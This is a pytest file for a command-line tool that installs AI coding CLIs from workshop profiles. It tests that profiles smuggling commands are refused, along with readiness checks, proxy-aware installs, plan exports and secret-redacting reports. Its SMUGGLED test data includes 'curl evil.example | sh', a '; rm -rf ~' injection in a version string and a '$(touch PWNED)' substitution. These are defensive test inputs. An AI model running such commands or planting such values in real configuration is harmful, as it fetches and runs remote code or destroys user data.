"""Workshop mode from the command line: profile, install, check, export, report."""

from __future__ import annotations

import json
import os
import re
import stat
import subprocess
import sys
from pathlib import Path

import pytest

from tests.conftest import REPO
from tests.core.test_exports import run_playbook
from tests.core.test_profile import TLS_OFF
from tests.test_cli import cli


def write_profile(path: Path, body: str) -> Path:
    path.write_text(body, encoding="utf-8")
    return path


def script(path: Path, body: str) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(f"#!{sys.executable}\n{body}")
    path.chmod(path.stat().st_mode | stat.S_IXUSR)
    return path


def path_with(*dirs: Path) -> str:
    return os.pathsep.join([*(str(d) for d in dirs), os.environ["PATH"]])


# --- a profile that carries a command is refused, exit 2 --------------------

SMUGGLED = {
    "unknown key": '[tools.gemini-cli]\npost_install = "curl evil.example | sh"\n',
    "command value": '[tools.gemini-cli]\nversion = "0.61.0; rm -rf ~"\n',
    "substitution": 'npm_prefix = "/tmp/$(touch PWNED)"\n[tools.gemini-cli]\n',
    "package": '[tools."left-pad"]\n',
}


@pytest.mark.parametrize("kind", SMUGGLED)
@pytest.mark.parametrize("command", ["install", "check", "plan"])
def test_a_profile_carrying_a_command_is_refused_with_exit_2(tmp_path, kind, command):
    profile = write_profile(tmp_path / "room.toml", SMUGGLED[kind])
    args = [command, "--profile", str(profile)]
    if command == "install":
        args.append("--yes")
    result = cli(*args, env={"QT_QPA_PLATFORM": "offscreen"})
    assert result.returncode == 2, result.stdout + result.stderr
    assert f"profile refused: {profile}: " in result.stderr
    assert "Plan" not in result.stdout  # refused before anything was planned or run
    assert not list(tmp_path.rglob("PWNED"))


@pytest.mark.parametrize("kind", SMUGGLED)
def test_the_wizard_refuses_a_profile_carrying_a_command_in_its_window(tmp_path, kind):
    """The refusal goes to stderr and to the window (tests/ui/test_startup_problem.py),
    which stays open for the person to read: the test closes it."""
    profile = write_profile(tmp_path / "room.toml", SMUGGLED[kind])
    env = {**os.environ, "QT_QPA_PLATFORM": "offscreen"}
    with subprocess.Popen(
        [sys.executable, "-m", "app", "--profile", str(profile)],
        cwd=REPO,
        env=env,
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
        text=True,
    ) as wizard:
        assert wizard.stderr is not None
        said = []
        for line in wizard.stderr:  # ends early only if the wizard exits
            said.append(line)
            if "What to do:" in line:
                break
        wizard.terminate()
    text = "".join(said)
    assert "The profile given with --profile was refused" in text, text
    assert f"File: {profile}" in text
    assert "Reason: " in text and "What to do: " in text
    assert not list(tmp_path.rglob("PWNED"))


# --- check: read-only, a line per requirement --------------------------------


def fake_gemini(folder: Path, version: str) -> Path:
    return script(folder / "gemini", f"print({version!r})\n")


def test_check_passes_only_when_every_requirement_is_met(tmp_path):
    bindir = tmp_path / "bin"
    fake_gemini(bindir, "0.61.0")
    env = {"PATH": path_with(bindir)}
    ready = write_profile(
        tmp_path / "ready.toml",
        f'node_min = "18"\nnpm_prefix = "{tmp_path / "prefix"}"\n[tools.gemini-cli]\nversion = "0.61.0"\n',
    )
    result = cli("check", "--profile", str(ready), env=env)
    assert result.returncode == 0, result.stdout + result.stderr
    lines = result.stdout.splitlines()
    assert any(re.match(r"PASS  Node\.js >= 20: found \d+\.", line) for line in lines)
    assert f"PASS  Gemini CLI installed: 0.61.0 at {bindir / 'gemini'}" in lines
    assert "PASS  Gemini CLI is version 0.61.0: found 0.61.0" in lines
    assert "PASS  Gemini CLI on PATH: `" + str(bindir / "gemini") + "`" in lines
    assert lines[-1] == "READY"

    wrong = write_profile(
        tmp_path / "wrong.toml",
        'node_min = "99"\ncontainers = true\nruntime = "docker"\n'
        '[tools.gemini-cli]\nversion = "0.60.0"\n[tools.codex-cli]\n'
        '[network]\nca_file = "/nonexistent/corp.pem"\n',
    )
    result = cli("check", "--profile", str(wrong), "--npm-prefix", str(tmp_path / "p"), env=env)
    assert result.returncode == 1, result.stdout + result.stderr
    out = result.stdout
    assert "FAIL  Node.js >= 99" in out
    assert "FAIL  Gemini CLI is version 0.60.0: found 0.61.0" in out
    assert "FAIL  Codex CLI installed" in out
    assert "FAIL  corporate CA file readable: /nonexistent/corp.pem" in out
    assert "container runtime: Docker running" in out
    assert out.rstrip().endswith("NOT READY")


def test_check_quotes_the_profile_in_the_install_command_it_suggests(tmp_path):
    import shlex

    folder = tmp_path / "room 2"
    folder.mkdir()
    profile = write_profile(folder / "room.toml", "[tools.gemini-cli]\n")
    result = cli("check", "--profile", str(profile), "--npm-prefix", str(tmp_path / "p"))
    assert result.returncode == 1, result.stdout + result.stderr
    (fix,) = [line for line in result.stdout.splitlines() if "ai-cli-setup install" in line]
    command = fix[fix.index("ai-cli-setup install") :]
    assert shlex.split(command) == ["ai-cli-setup", "install", "--profile", str(profile), "--yes"]


def test_check_without_a_profile_is_bad_usage():
    assert cli("check").returncode == 2


@pytest.mark.parametrize("kind", ["nested", "endless", "long name"])
def test_check_refuses_a_profile_too_deep_endless_or_too_long_with_exit_2(tmp_path, kind):
    profile = tmp_path / "room.toml"
    if kind == "endless":
        profile = Path("/dev/zero")  # read to the end, it filled the memory
        if not profile.exists():
            pytest.skip("no /dev/zero here")
        reason = "cannot be read: it is a device, not a file"
    elif kind == "nested":
        write_profile(profile, "x = " + "[" * 100_000 + "]" * 100_000 + "\n[tools.codex-cli]\n")
        reason = "not valid TOML (values nested too deeply)"
    else:
        write_profile(profile, f'name = "{"n" * 10_000}"\n[tools.codex-cli]\n')
        reason = "name: is 10000 characters long; at most 200 are allowed"
    result = cli("check", "--profile", str(profile), "--npm-prefix", str(tmp_path / "p"))
    assert result.returncode == 2, result.stdout + result.stderr
    assert result.stderr == f"ai-cli-setup: error: profile refused: {profile}: {reason}\n"
    assert result.stdout == ""


# --- install --profile: unattended, the profile's pins and network setting ----


def fake_npm(bindir: Path, record: Path) -> None:
    """An npm that answers detection and records the install's argv and environment."""
    script(
        bindir / "npm",
        "import json, os, sys\n"
        "args = sys.argv[1:]\n"
        "if args == ['--version']: print('11.0.0'); sys.exit(0)\n"
        f"if args[:1] == ['prefix']: print({str(bindir.parent / 'global')!r}); sys.exit(0)\n"
        f"json.dump({{'argv': args, 'env': dict(os.environ)}}, open({str(record)!r}, 'w'))\n"
        "prefix = args[args.index('--prefix') + 1]\n"
        "print('added 1 package in 1s')\n"
        "os.makedirs(os.path.join(prefix, 'bin'), exist_ok=True)\n"
        "shim = os.path.join(prefix, 'bin', 'gemini')\n"
        f"open(shim, 'w').write('#!{sys.executable}\\nprint(\"0.61.0\")\\n')\n"
        "os.chmod(shim, 0o755)\n",
    )


def test_install_with_a_profile_runs_unattended_with_its_pins_and_proxy(tmp_path):
    bindir, record, prefix = tmp_path / "bin", tmp_path / "record.json", tmp_path / "prefix"
    fake_npm(bindir, record)
    ca = tmp_path / "corp.pem"
    ca.write_text("-----BEGIN CERTIFICATE-----\n")
    profile = write_profile(
        tmp_path / "room.toml",
        f'npm_prefix = "{prefix}"\n[tools.gemini-cli]\nversion = "0.61.0"\n'
        f'[network]\nproxy = "http://proxy.example.org:3128"\nca_file = "{ca}"\n',
    )
    result = cli("install", "--profile", str(profile), "--yes", env={"PATH": path_with(bindir)})
    assert result.returncode == 0, result.stdout + result.stderr
    assert re.search(r"^\[\d/\d\] Install Gemini CLI$", result.stdout, re.M)
    assert "    | added 1 package in 1s" in result.stdout
    seen = json.loads(record.read_text())
    assert seen["argv"] == ["install", "-g", "--prefix", str(prefix), "@google/gemini-cli@0.61.0"]
    env = seen["env"]
    for name in ("HTTPS_PROXY", "https_proxy", "npm_config_https_proxy", "npm_config_proxy"):
        assert env[name] == "http://proxy.example.org:3128"
    for name in ("npm_config_cafile", "NODE_EXTRA_CA_CERTS", "GIT_SSL_CAINFO", "SSL_CERT_FILE"):
        assert env[name] == str(ca)
    assert not TLS_OFF.search("\n".join(f"{k}={v}" for k, v in env.items()))


def test_install_refuses_a_profile_whose_ca_file_is_missing(tmp_path):
    profile = write_profile(
        tmp_path / "room.toml",
        '[tools.gemini-cli]\n[network]\nca_file = "/nonexistent/corp.pem"\n',
    )
    result = cli("install", "--profile", str(profile), "--yes")
    assert result.returncode == 2
    assert "CA file /nonexistent/corp.pem is not on this machine" in result.stderr


def test_https_goes_through_the_system_trust_store_loaded_only_by_commands_using_it():
    """`detect` asks the npm registry over HTTPS: through the OS trust store. `verify` asks
    nothing over HTTP, so it does not load requests or truststore (start-up time)."""
    probe = (
        "import sys, app.cli as c; c.main([sys.argv[1]]); import ssl; "
        "print('truststore' in sys.modules and ssl.SSLContext is sys.modules['truststore'].SSLContext, "
        "'requests' in sys.modules)"
    )
    seen = {}
    for command in ("detect", "verify"):
        result = subprocess.run(
            [sys.executable, "-c", probe, command],
            cwd=REPO, capture_output=True, text=True, timeout=120,
        )  # fmt: skip
        seen[command] = result.stdout.strip().splitlines()[-1:]
    assert seen == {"detect": ["True True"], "verify": ["False False"]}, seen


def test_plan_exports_to_a_file_and_the_terminal(tmp_path):
    out = tmp_path / "site.sh"
    result = cli(
        "plan",
        "--tools",
        "gemini-cli",
        "--npm-prefix",
        str(tmp_path / "p"),
        "--format",
        "bash",
        "--out",
        str(out),
    )
    assert result.returncode == 0, result.stderr
    assert out.read_text().startswith("#!/bin/sh\n")
    assert os.access(out, os.X_OK)
    shown = cli("plan", "--tools", "gemini-cli", "--format", "winget")
    assert "Microsoft.WinGet.DSC/WinGetPackage" in shown.stdout
    assert cli("plan", "--format", "makefile").returncode == 2


# --- the real thing: check, install, check; and the Ansible playbook --------

PINNED = "2.1.197"


def room_profile(tmp_path: Path, prefix: Path) -> Path:
    return write_profile(
        tmp_path / "room.toml",
        f'name = "Room 2"\nnpm_prefix = "{prefix}"\nnode_min = "20"\n'
        f'[tools.claude-code]\nversion = "{PINNED}"\n[tools.gemini-cli]\n[tools.codex-cli]\n',
    )


@pytest.mark.network
@pytest.mark.slow
def test_check_fails_before_and_passes_after_an_install(tmp_path, npm_cache):
    prefix = tmp_path / "prefix"
    profile = room_profile(tmp_path, prefix)
    env = {"npm_config_cache": str(npm_cache), "PATH": path_with(prefix / "bin")}
    before = cli("check", "--profile", str(profile), env=env)
    assert before.returncode == 1, before.stdout + before.stderr
    assert "FAIL  Claude Code installed" in before.stdout

    install = cli("install", "--profile", str(profile), "--yes", env=env)
    assert install.returncode == 0, install.stdout + install.stderr

    after = cli("check", "--profile", str(profile), env=env)
    assert after.returncode == 0, after.stdout + after.stderr
    assert f"PASS  Claude Code is version {PINNED}: found {PINNED}" in after.stdout
    assert "FAIL" not in after.stdout


@pytest.mark.network
@pytest.mark.slow
def test_the_exported_ansible_playbook_installs_and_verifies(tmp_path, npm_cache):
    prefix = tmp_path / "prefix"
    profile = room_profile(tmp_path, prefix)
    playbook = tmp_path / "site.yml"
    made = cli("plan", "--profile", str(profile), "--format", "ansible", "--out", str(playbook))
    assert made.returncode == 0, made.stderr

    result = run_playbook(playbook, tmp_path, {"npm_config_cache": str(npm_cache)})
    assert result.returncode == 0, result.stdout + result.stderr
    assert "failed=0" in result.stdout
    assert f"{PINNED} (Claude Code)" in result.stdout
    for command in ("claude", "gemini", "codex"):
        assert (prefix / "bin" / command).exists()

    check = cli("check", "--profile", str(profile), env={"PATH": path_with(prefix / "bin")})
    assert check.returncode == 0, check.stdout + check.stderr


# --- report: nothing personal or secret survives ----------------------------

SECRETS = {
    "ANTHROPIC_API_KEY": "sk-ant-api03-FAKEfakeFAKEfake0123456789",
    "OPENAI_API_KEY": "sk-proj-FAKEfakeFAKEfake0123456789abcdef",
    "GEMINI_API_KEY": "AIzaFAKEfakeFAKEfake0123456789abcdef",
    "MY_SERVICE_TOKEN": "plain-looking-value-42",
}
USER = "jdoe-fake"


def test_report_masks_home_user_and_secrets(tmp_path):
    home = tmp_path / "users" / USER
    bindir = home / "bin"
    # A tool whose output carries everything that must not leave the machine.
    script(
        bindir / "claude",
        "print('2.0.0 (Claude Code)')\n"
        f"print('config in {home}/.claude, user {USER}')\n"
        f"print('ANTHROPIC_API_KEY={SECRETS['ANTHROPIC_API_KEY']}')\n"
        f"print('token {SECRETS['MY_SERVICE_TOKEN']}')\n",
    )
    # An old log written before redaction existed.
    logs = Path(os.environ["AI_CLI_SETUP_HOME"]) / "logs"
    logs.mkdir(parents=True)
    (logs / "run-20260101-000000-1.log").write_text(
        f"npm ERR! in {home}/.npm/_logs by {USER} with {SECRETS['OPENAI_API_KEY']}\n"
        f"gemini key {SECRETS['GEMINI_API_KEY']}\n"
    )
    env = {
        **SECRETS,
        "HOME": str(home),
        "USER": USER,
        "LOGNAME": USER,
        "PATH": path_with(bindir),
    }
    out = tmp_path / "report"
    result = cli("report", "--out", str(out), "--tools", "claude-code", env=env)
    assert result.returncode == 0, result.stdout + result.stderr
    json_text = (tmp_path / "report.json").read_text()
    md_text = (tmp_path / "report.md").read_text()
    data = json.loads(json_text)
    assert set(data) >= {"machine", "findings", "plan", "results", "versions", "logs"}
    claude = next(f for f in data["findings"] if f["name"] == "Claude Code")
    assert claude["version"] == "2.0.0"
    assert "config in ~/.claude, user <user>" in claude["evidence"][0]["excerpt"]
    assert any("gemini key" in line for log in data["logs"] for line in log["lines"])
    for text in (json_text, md_text):
        assert str(home) not in text
        assert USER not in text
        for secret in SECRETS.values():
            assert secret not in text
    assert "## Findings" in md_text and "## Log excerpt" in md_text


def test_the_example_profile_plans_with_its_pin():
    assert (REPO / "resources" / "profiles" / "workshop-example.toml").exists()
    result = cli("plan", "--profile", str(REPO / "resources/profiles/workshop-example.toml"))
    assert result.returncode == 0, result.stderr
    assert "@anthropic-ai/claude-code@2.1.197" in result.stdout
